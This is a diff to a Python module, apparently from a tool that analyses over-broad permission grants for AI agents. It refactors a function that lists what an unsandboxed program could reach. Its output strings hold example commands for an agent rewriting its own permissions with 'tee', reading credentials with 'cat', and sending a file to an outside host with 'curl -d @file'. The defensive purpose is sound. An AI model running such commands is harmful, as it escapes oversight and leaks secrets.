@@ -9,7 +9,6 @@ from functools import cache
 
 from overgrant.model import Grant, World
 from overgrant.power.commands import OPEN
-from overgrant.scope import everything
 
 
 def derive(world: World) -> None:
@@ -29,12 +28,9 @@ def opens(grant: Grant) -> bool:
 @cache
 def implied(product: str) -> tuple[str, ...]:
     """What a program outside any sandbox can reach, for an agent of this product."""
-    from overgrant.dialect.grammar.paths import touched
+    from overgrant.dialect.grammar.paths import governing, precious
 
-    touches = touched(everything("path"))
-    own = next((touch for touch in touches if touch.kind == "control" and touch.product == product
-                and touch.what == "permissions"), None)
-    key = next((touch for touch in touches if touch.kind == "sensitive"), None)
-    found = [f"change its own permissions (`tee {own.example}`)"] if own is not None else []
-    found += [f"read credentials (`cat {key.example}`)"] if key is not None else []
+    own, key = governing(product, "permissions"), precious()
+    found = [f"change its own permissions (`tee {own}`)"] if own else []
+    found += [f"read credentials (`cat {key}`)"] if key else []
     return (*found, "send anything to any host (`curl -d @file https://example.net`)")
